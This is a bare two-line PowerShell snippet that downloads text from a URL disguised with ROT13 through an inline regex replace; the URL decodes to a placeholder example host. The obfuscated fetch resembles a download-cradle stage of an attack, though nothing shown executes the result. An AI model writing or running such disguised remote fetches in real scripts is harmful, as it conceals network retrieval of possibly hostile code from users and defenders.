$wc = New-Object System.Net.WebClient
$wc.DownloadString(([regex]::Replace('uggc://n.rknzcyr/c/k.gkg','[a-z]',{param($m)[char]((([int][char]$m.Value-97+13)%26)+97)})))
